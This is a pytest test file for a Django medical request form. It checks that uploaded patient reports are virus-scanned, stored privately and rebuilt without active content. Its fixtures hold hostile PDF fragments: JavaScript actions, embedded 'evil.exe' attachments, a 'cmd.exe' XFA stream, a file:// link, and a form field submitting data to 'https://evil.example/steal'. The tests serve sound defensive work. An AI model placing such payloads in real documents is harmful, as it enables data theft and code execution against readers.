"""Reports sent with a request: checked by content, stored privately under random names."""

import io
import time

import pikepdf
import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.utils import timezone
from django_tasks_db.models import DBTaskResult
from PIL import Image, PngImagePlugin

from consultations.checks import virus_scanner_configured
from consultations.choices import ScanStatus
from consultations.models import PatientRequest, RequestFile
from tests.clamd import SIGNATURE
from tests.conftest import login_verified
from tests.upload_samples import EICAR, PAYLOAD_MARKERS, active_content, pdf

from .conftest import run_worker, second_opinion_data

pytestmark = pytest.mark.django_db

PDF = pdf()


def png_bytes(size=(40, 30), mode="RGB"):
    buffer = io.BytesIO()
    Image.new(mode, size, 1 if mode == "1" else "white").save(buffer, "PNG")
    return buffer.getvalue()


def jpeg_bytes():
    buffer = io.BytesIO()
    Image.new("RGB", (40, 30), "white").save(buffer, "JPEG")
    return buffer.getvalue()


def upload(name, content, content_type="application/octet-stream"):
    return SimpleUploadedFile(name, content, content_type=content_type)


def post_files(client, form_pages, files):
    return client.post(form_pages["second_opinion"].url, {**second_opinion_data(), "files": files})


def test_reports_are_stored_privately_with_random_names(client, form_pages):
    response = post_files(
        client,
        form_pages,
        [
            upload("MRI report Canary.pdf", PDF, "application/pdf"),
            upload("scan.png", png_bytes(), "image/png"),
            upload("photo.JPG", jpeg_bytes(), "image/jpeg"),
        ],
    )
    assert response.status_code == 302
    files = list(PatientRequest.objects.get().files.all())
    assert [f.original_name for f in files] == ["MRI report Canary.pdf", "scan.png", "photo.JPG"]
    assert [f.content_type for f in files] == ["application/pdf", "image/png", "image/jpeg"]
    for request_file in files:
        assert "Canary" not in request_file.file.name
        assert request_file.file.name.startswith("requests/")
        assert request_file.file.storage.exists(request_file.file.name)
        assert not request_file.file.name.startswith("media/")
    with pytest.raises(ValueError):
        _ = files[0].file.url  # the private storage has no public address


@pytest.mark.parametrize(
    ("files", "message"),
    [
        ([upload("report.pdf", b"MZ\x90\x00" + b"\x00" * 200)], "is not a PDF, JPEG or PNG file"),
        ([upload("report.pdf", b"%PDF-1.4\nno end marker")], "is not a complete PDF file"),
        ([upload("scan.png", b"\x89PNG\r\n\x1a\n" + b"junk" * 20)], "could not be opened"),
        ([upload("scan.pdf", png_bytes())], "does not match its name"),
        ([upload("empty.pdf", b"")], "is empty"),
        (
            [upload("big.pdf", PDF + b"0" * (20 * 1024 * 1024))],
            "Each file must be 20 MB or smaller",
        ),
        (
            [upload(f"r{i}.pdf", PDF) for i in range(6)],
            "You can upload up to 5 files. You chose 6.",
        ),
        (
            [
                upload(
                    "script.pdf", PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S/JavaScript>>")
                )
            ],
            "contains scripts",
        ),
    ],
)
def test_bad_uploads_are_refused_and_nothing_is_kept(client, form_pages, files, message):
    response = post_files(client, form_pages, files)
    assert response.status_code == 200
    html = response.content.decode()
    assert message in html
    assert "please choose your files again" in html
    assert 'value="Maria Canary-Lopez"' in html  # the typed answers are kept
    assert PatientRequest.objects.count() == 0 and RequestFile.objects.count() == 0


def test_decompression_bomb_is_refused(client, form_pages):
    bomb = png_bytes(size=(10000, 6000), mode="1")  # 60 megapixels of white compresses to little
    response = post_files(client, form_pages, [upload("bomb.png", bomb)])
    assert "too large an image to open safely" in response.content.decode()
    assert RequestFile.objects.count() == 0


# Virus scanning (a real clamd with the EICAR test signature: tests/clamd.py)


def stored_bytes(request_file):
    with request_file.file.open("rb") as handle:  # the storage decrypts
        return handle.read()


def pdf_with_eicar():
    return pdf(extra_objects=[b"(" + EICAR + b")"])


def test_eicar_is_refused_and_nothing_is_stored(client, form_pages, scanner, caplog):
    response = post_files(
        client,
        form_pages,
        [upload("MRI report.pdf", PDF), upload("Canary scan.pdf", pdf_with_eicar())],
    )
    assert response.status_code == 200
    html = response.content.decode()
    assert "“Canary scan.pdf” did not pass our virus check" in html
    assert "fax it to us at" in html
    assert 'value="Maria Canary-Lopez"' in html  # the answers are kept
    assert PatientRequest.objects.count() == 0 and RequestFile.objects.count() == 0
    assert SIGNATURE in caplog.text
    assert "Canary" not in caplog.text  # no file or patient name in the log


def test_clean_files_are_scanned_and_stored(client, form_pages, scanner):
    response = post_files(
        client, form_pages, [upload("report.pdf", PDF), upload("a.png", png_bytes())]
    )
    assert response.status_code == 302
    files = list(RequestFile.objects.all())
    assert [f.scan_status for f in files] == [ScanStatus.CLEAN, ScanStatus.CLEAN]


@pytest.fixture
def held_request(client, form_pages, scanner_down):
    """A request sent while the configured scanner was down."""
    response = post_files(
        client, form_pages, [upload("report.pdf", PDF), upload("scan.png", png_bytes())]
    )
    assert response.status_code == 302
    return PatientRequest.objects.get()


def test_scanner_down_stores_the_request_and_holds_its_files(
    client, held_request, intake_user, settings, clamd_socket
):
    files = list(held_request.files.all())
    assert [f.scan_status for f in files] == [ScanStatus.PENDING, ScanStatus.PENDING]
    assert DBTaskResult.objects.filter(task_path__endswith="rescan_held_files").count() == 1

    login_verified(client, intake_user)
    page = client.get(f"/admin/patient-requests/inspect/{held_request.pk}/").content.decode()
    assert "Not yet scanned" in page
    download = f"/admin/patient-requests/files/{files[0].pk}/download/"
    assert download not in page
    response = client.get(download)
    assert response.status_code == 409
    assert PDF[:8] not in response.content

    # The scanner is back: the queued rescan clears the files.
    settings.CLAMD_SOCKET = clamd_socket
    run_worker()
    assert {f.scan_status for f in held_request.files.all()} == {ScanStatus.CLEAN}
    page = client.get(f"/admin/patient-requests/inspect/{held_request.pk}/").content.decode()
    assert "Scanned: no virus found" in page and download in page
    response = client.get(download)
    assert response.status_code == 200
    assert b"".join(response.streaming_content).startswith(b"%PDF-")


def test_rescan_while_still_down_tries_again_later(held_request):
    run_worker()
    assert {f.scan_status for f in held_request.files.all()} == {ScanStatus.PENDING}
    later = DBTaskResult.objects.filter(status="READY", run_after__gt=timezone.now())
    assert later.count() == 1


def test_a_hanging_scanner_holds_the_files_without_waiting_for_each(
    client, form_pages, scanner_hanging
):
    started = time.monotonic()
    files = [upload(f"r{i}.pdf", PDF) for i in range(5)]
    response = post_files(client, form_pages, files)
    assert response.status_code == 302
    assert time.monotonic() - started < 5  # one timeout of 0.5 s, not five
    assert {f.scan_status for f in RequestFile.objects.all()} == {ScanStatus.PENDING}


def test_rescan_command_finds_a_virus_in_a_held_file(held_request, settings, clamd_socket):
    request_file = held_request.files.first()
    request_file.file.storage.delete(request_file.file.name)
    request_file.file.storage.save(request_file.file.name, ContentFile(pdf_with_eicar()))
    settings.CLAMD_SOCKET = clamd_socket
    out = io.StringIO()
    call_command("rescan_uploads", stdout=out)
    assert "1 cleared, 1 virus found, 0 still held" in out.getvalue()
    request_file.refresh_from_db()
    assert request_file.scan_status == ScanStatus.INFECTED and request_file.held


def test_rescan_command_fails_while_the_scanner_is_down(held_request):
    with pytest.raises(CommandError, match="did not answer"):
        call_command("rescan_uploads", stdout=io.StringIO())
    assert {f.scan_status for f in held_request.files.all()} == {ScanStatus.PENDING}


def test_files_stored_without_a_scanner_are_marked_so_and_downloadable(client, form_pages):
    assert post_files(client, form_pages, [upload("report.pdf", PDF)]).status_code == 302
    request_file = RequestFile.objects.get()
    assert request_file.scan_status == ScanStatus.OFF and not request_file.held


def test_deploy_check_warns_when_uploads_are_not_scanned(settings):
    warnings = virus_scanner_configured(None)
    assert [w.id for w in warnings] == ["consultations.W001"]
    settings.CLAMD_HOST = "clamd"
    assert virus_scanner_configured(None) == []


# Rebuilding: what staff download holds the document and nothing else


def post_one(client, form_pages, name, content):
    response = post_files(client, form_pages, [upload(name, content)])
    assert response.status_code == 302, response.content.decode()[:3000]
    return stored_bytes(RequestFile.objects.get())


@pytest.mark.parametrize(
    ("case", "content"),
    [
        ("open action going to a page", pdf(catalog=b"/OpenAction<</S/GoTo/D[3 0 R/Fit]>>")),
        ("page action opening another file", pdf(page=b"/AA<</O<</S/GoToR/F(x.pdf)>>>>")),
        (
            "attached file",
            pdf(
                catalog=b"/Names<</EmbeddedFiles<</Names[(evil.exe) 6 0 R]>>>>",
                extra_objects=[
                    b"<</Type/Filespec/F(evil.exe)/EF<</F 7 0 R>>>>",
                    b"<</Type/EmbeddedFile/Length 6>>stream\nMZevil\nendstream",
                ],
            ),
        ),
        (
            "file attachment annotation",
            pdf(
                page=b"/Annots[6 0 R]",
                extra_objects=[
                    b"<</Type/Annot/Subtype/FileAttachment/Rect[0 0 10 10]/FS 7 0 R>>",
                    b"<</Type/Filespec/F(evil.exe)/EF<</F 8 0 R>>>>",
                    b"<</Type/EmbeddedFile/Length 6>>stream\nMZevil\nendstream",
                ],
            ),
        ),
        (
            "XFA form and a field that submits the form",
            pdf(
                catalog=b"/AcroForm<</Fields[6 0 R]/XFA 7 0 R>>",
                page=b"/Annots[6 0 R]",
                extra_objects=[
                    b"<</Type/Annot/Subtype/Widget/FT/Tx/T(name)/Rect[0 0 90 20]"
                    b"/A<</S/SubmitForm/F(https://evil.example/steal)>>>>",
                    b"<</Length 29>>stream\n<xdp:xdp>cmd.exe</xdp:xdp>\nendstream",
                ],
            ),
        ),
        (
            "script hidden in an object nothing uses",
            pdf(extra_objects=[b"<</S/JavaScript/JS(app.alert(1))>>"]),
        ),
    ],
)
def test_active_parts_are_removed_from_stored_pdfs(client, form_pages, case, content):
    stored = post_one(client, form_pages, "report.pdf", content)
    assert active_content(stored) == set(), case
    for marker in PAYLOAD_MARKERS + [b"evil", b"MZevil", b"xdp"]:
        assert marker not in stored, (case, marker)
    with pikepdf.open(io.BytesIO(stored)) as document:
        assert len(document.pages) == 1
        assert b"MRI report" in document.pages[0].Contents.read_bytes()  # the page is kept


def test_web_links_stay_and_other_links_go(client, form_pages):
    content = pdf(
        page=b"/Annots[6 0 R 7 0 R]",
        extra_objects=[
            b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://www.cancer.gov/)>>>>",
            b"<</Type/Annot/Subtype/Link/Rect[9 9 19 19]/A<</S/URI/URI(file://evil/share)>>>>",
        ],
    )
    stored = post_one(client, form_pages, "report.pdf", content)
    with pikepdf.open(io.BytesIO(stored)) as document:
        links = [annot.get("/A") for annot in document.pages[0].Annots]
    assert str(links[0].URI) == "https://www.cancer.gov/"
    assert links[1] is None


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (
            b"%PDF-1.7\n" + b"garbage " * 50 + b"\n%%EOF\n",
            "We could not open “report.pdf” as a PDF",
        ),
        (
            pdf(
                catalog=b"/Names<</JavaScript 6 0 R>>",
                extra_objects=[
                    b"<</Names[(a) 7 0 R]>>",
                    b"<</S/JavaScript/JS 8 0 R>>",
                    b"<</Length 5>>stream\nhello\nendstream",
                ],
            ),
            "contains scripts or commands",
        ),
    ],
)
def test_pdfs_that_cannot_be_made_safe_are_refused_with_what_to_do(
    client, form_pages, content, message
):
    response = post_files(client, form_pages, [upload("report.pdf", content)])
    html = response.content.decode()
    assert message in html
    assert "bring it to your visit or fax it to us at (212) 555-0143." in html
    assert RequestFile.objects.count() == 0


def test_password_protected_pdf_is_refused(client, form_pages, tmp_path):
    with pikepdf.open(io.BytesIO(PDF)) as document:
        out = io.BytesIO()
        document.save(out, encryption=pikepdf.Encryption(user="secret", owner="secret"))
    response = post_files(client, form_pages, [upload("report.pdf", out.getvalue())])
    assert "is protected with a password" in response.content.decode()
    assert RequestFile.objects.count() == 0


def test_photos_lose_their_location_and_camera_details_but_keep_their_way_up(client, form_pages):
    exif = Image.Exif()
    exif[0x0112] = 6  # orientation: turn 90 degrees clockwise to view
    exif[0x010F] = "CanaryCam"
    exif[0x8825] = {1: "N", 2: (40.0, 45.0, 0.0)}  # GPS: New York
    buffer = io.BytesIO()
    Image.new("RGB", (40, 30), "white").save(buffer, "JPEG", exif=exif)
    stored = post_one(client, form_pages, "photo.jpg", buffer.getvalue())
    assert b"CanaryCam" not in stored and b"Exif" not in stored
    with Image.open(io.BytesIO(stored)) as image:
        assert image.format == "JPEG"
        assert image.size == (30, 40)  # turned upright
        assert not image.getexif()


def test_png_text_chunks_are_dropped(client, form_pages):
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "Patient Canary, DOB 1961")
    buffer = io.BytesIO()
    Image.new("RGB", (40, 30), "white").save(buffer, "PNG", pnginfo=info)
    stored = post_one(client, form_pages, "scan.png", buffer.getvalue())
    assert b"Canary" not in stored
    with Image.open(io.BytesIO(stored)) as image:
        assert image.size == (40, 30)


def test_a_long_name_keeps_its_extension(client, form_pages):
    name = "MRI report " + "x" * 240 + ".pdf"
    post_one(client, form_pages, name, PDF)
    original = RequestFile.objects.get().original_name
    assert len(original) == 200 and original.endswith(".pdf")
